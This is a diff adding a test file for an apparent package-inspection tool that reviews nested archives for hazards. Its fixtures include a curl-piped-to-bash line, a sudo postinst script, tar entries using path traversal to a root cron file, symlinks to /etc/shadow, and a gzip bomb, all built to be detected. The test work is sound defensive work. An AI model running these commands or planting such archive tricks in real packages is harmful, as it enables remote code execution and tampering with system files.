@@ -1,0 +1,119 @@
+import * as assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import JSZip from 'jszip';
+import { debBytes, tarBytes, tarGzBytes } from '../../examples/archives';
+import { ReviewSession } from '../../src/core/engine';
+import { ExpandedPackage } from '../../src/core/nested/expand';
+import { ZipPackage } from '../../src/core/package/source';
+import type { ReviewResult } from '../../src/core/review';
+import { defaultSettings, type ReviewSettings } from '../../src/core/settings';
+import { emptyWorkspace } from '../../src/core/review';
+import { ZipArchive } from '../../src/core/zip';
+import { COMPRESSED_TARS } from '../helpers/compressedTars';
+import { NOW } from '../helpers/example';
+import { repoRoot } from '../helpers/paths';
+
+const CLI = join(repoRoot, 'out', 'src', 'cli', 'main.js');
+const MANIFEST = JSON.stringify({ schemaVersion: 1, name: 'x', version: '1.0.0', files: [] });
+const PIPE_TO_BASH = '#!/bin/bash\nset -e\ncurl -fsSL https://get.example.net/i.sh | bash\n';
+
+async function zipOf(files: Record<string, Buffer | string>): Promise<Buffer> {
+  const z = new JSZip();
+  for (const [path, data] of Object.entries(files)) {
+    z.file(path, data);
+  }
+  return z.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
+}
+
+async function reviewOf(bytes: Buffer, limits: Partial<ReviewSettings['limits']> = {}): Promise<ReviewResult> {
+  const settings = defaultSettings({ now: NOW, shellcheck: { enabled: false, path: 'shellcheck' } });
+  settings.limits = { ...settings.limits, ...limits };
+  return new ReviewSession(new ZipPackage(await ZipArchive.fromBuffer(bytes), 'pkg.zip')).review(emptyWorkspace(), settings);
+}
+
+const at = (r: ReviewResult, rule: string): string[] => r.findings.filter((f) => f.rule === rule).map((f) => f.file);
+
+/** A .zip inside a .deb inside a tarball inside the package: three levels. */
+async function deepPackage(): Promise<Buffer> {
+  const plugin = await zipOf({ 'run.sh': PIPE_TO_BASH });
+  const deb = await debBytes([{ name: 'postinst', data: '#!/bin/sh\nset -e\nsystemctl restart dten-agent.service\nsudo reboot\n', mode: 0o755 }], [{ name: 'opt/dten/plugin.zip', data: plugin }]);
+  return zipOf({ 'manifest.json': MANIFEST, 'payload/app.tar.gz': await tarGzBytes([{ name: 'debs/agent.deb', data: deb }]) });
+}
+
+describe('nested archives: reviewed inside, at their !/ paths', () => {
+  it('finds a hazard at every level up to the limit: a .deb maintainer script, a zip inside the .deb', async () => {
+    const r = await reviewOf(await deepPackage());
+    assert.deepEqual(at(r, 'script/remote-exec'), ['payload/app.tar.gz!/debs/agent.deb!/data/opt/dten/plugin.zip!/run.sh']);
+    assert.deepEqual(at(r, 'script/sudo'), ['payload/app.tar.gz!/debs/agent.deb!/control/postinst']);
+    // Files inside an archive are covered by the archive's own manifest entry: never "unlisted" themselves.
+    assert.deepEqual(at(r, 'zip/unlisted-file'), ['payload/app.tar.gz']);
+  });
+
+  it('stops at the depth limit with zip/nesting-depth, and opens nothing deeper', async () => {
+    const r = await reviewOf(await deepPackage(), { maxDepth: 2 });
+    assert.deepEqual(at(r, 'zip/nesting-depth'), ['payload/app.tar.gz!/debs/agent.deb!/data/opt/dten/plugin.zip']);
+    assert.deepEqual(at(r, 'script/remote-exec'), []);
+    assert.deepEqual(at(r, 'script/sudo'), ['payload/app.tar.gz!/debs/agent.deb!/control/postinst'], 'the levels within the limit are reviewed');
+  });
+
+  it('reads tarballs compressed with xz, bzip2 and zstd', async () => {
+    const files = Object.fromEntries(Object.entries(COMPRESSED_TARS).map(([name, b64]) => [`payload/${name}`, Buffer.from(b64, 'base64')]));
+    const r = await reviewOf(await zipOf({ 'manifest.json': MANIFEST, ...files }));
+    assert.deepEqual(at(r, 'script/sudo').sort(), ['payload/app.tar.bz2!/bin/x.sh', 'payload/app.tar.xz!/bin/x.sh', 'payload/app.tar.zst!/bin/x.sh']);
+  });
+
+  it('reports hostile tar members as zip/* findings and keeps them out of the tree', async () => {
+    const tar = await tarBytes([
+      { name: '../../etc/cron.d/evil', data: '* * * * * root sh\n' },
+      { name: '/etc/passwd', data: 'x' },
+      { name: 'lib/current', type: 'symlink', linkname: '../../../etc/shadow' },
+      { name: 'lib/ok', type: 'symlink', linkname: 'current' },
+      { name: 'lib/hard', type: 'link', linkname: '../outside' },
+      { name: 'dev/sda', type: 'block-device' },
+      { name: 'etc/app.conf', data: 'a=1\n' },
+    ]);
+    const bytes = await zipOf({ 'manifest.json': MANIFEST, 'app.tar': tar });
+    const r = await reviewOf(bytes);
+    assert.equal(at(r, 'zip/path-traversal').length, 2);
+    assert.deepEqual(at(r, 'zip/symlink-escape').sort(), ['app.tar!/lib/current', 'app.tar!/lib/hard']);
+    assert.deepEqual(at(r, 'zip/unsafe-name'), ['app.tar!/dev/sda']);
+    const pkg = await ExpandedPackage.open(new ZipPackage(await ZipArchive.fromBuffer(bytes), 'pkg.zip'), defaultSettings());
+    assert.deepEqual(pkg.files().filter((f) => f.path.startsWith('app.tar!/')).map((f) => f.path).sort(), ['app.tar!/etc/app.conf', 'app.tar!/lib/ok']);
+    const node = pkg.node('app.tar')!;
+    assert.equal(node.archive, true, 'an opened archive is a folder of the tree');
+    assert.deepEqual([...node.children!.keys()].sort(), ['etc', 'lib']);
+  });
+
+  it('stops inflating a gzip bomb in a tarball at the limit, and says so at its path', async () => {
+    const bomb = await tarGzBytes([{ name: 'zeros.bin', data: Buffer.alloc(8 * 1024 * 1024) }]);
+    const before = process.memoryUsage().arrayBuffers;
+    const r = await reviewOf(await zipOf({ 'manifest.json': MANIFEST, 'payload/data.tar.gz': bomb }), { maxNestedBytes: 1024 * 1024 });
+    assert.deepEqual(at(r, 'zip/compression-bomb'), ['payload/data.tar.gz']);
+    assert.match(r.findings.find((f) => f.rule === 'zip/compression-bomb')!.message, /expands past 1048576 bytes/);
+    assert.ok(process.memoryUsage().arrayBuffers - before < 6 * 1024 * 1024, 'the 8 MiB were never inflated');
+  });
+
+  it('says what it could not open: a damaged tarball is zip/corrupt, an .rpm a note', async () => {
+    const good = await tarGzBytes([{ name: 'a.txt', data: 'a' }]);
+    const r = await reviewOf(await zipOf({ 'manifest.json': MANIFEST, 'broken.tar.gz': good.subarray(0, good.length - 12), 'rpms/agent.rpm': Buffer.from('\xed\xab\xee\xdb not really', 'latin1') }));
+    assert.deepEqual(at(r, 'zip/corrupt'), ['broken.tar.gz']);
+    assert.ok(r.notes.some((n) => /rpms\/agent\.rpm is an RPM package: its scriptlets and files were not reviewed/.test(n)), r.notes.join('\n'));
+  });
+
+  it('cat prints a nested file by its !/ path, and ls --recursive lists every level', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'ui-nested-'));
+    const file = join(dir, 'pkg.zip');
+    writeFileSync(file, await deepPackage());
+    const cat = spawnSync(process.execPath, [CLI, 'cat', file, 'payload/app.tar.gz!/debs/agent.deb!/data/opt/dten/plugin.zip!/run.sh'], { encoding: 'utf8' });
+    assert.equal(cat.stdout, PIPE_TO_BASH, cat.stderr);
+    const ls = spawnSync(process.execPath, [CLI, 'ls', file, '--recursive'], { encoding: 'utf8' });
+    assert.match(ls.stdout, / payload\/app\.tar\.gz!\/debs\/agent\.deb!\/control\/postinst$/m);
+    assert.match(ls.stdout, / payload\/app\.tar\.gz!\/debs\/agent\.deb!\/data\/opt\/dten\/plugin\.zip!\/run\.sh$/m);
+    const missing = spawnSync(process.execPath, [CLI, 'cat', file, 'payload/app.tar.gz!/nothing'], { encoding: 'utf8' });
+    assert.equal(missing.status, 2);
+    assert.match(missing.stderr, /^upgrade-inspector: payload\/app\.tar\.gz!\/nothing: no such entry/);
+  });
+});
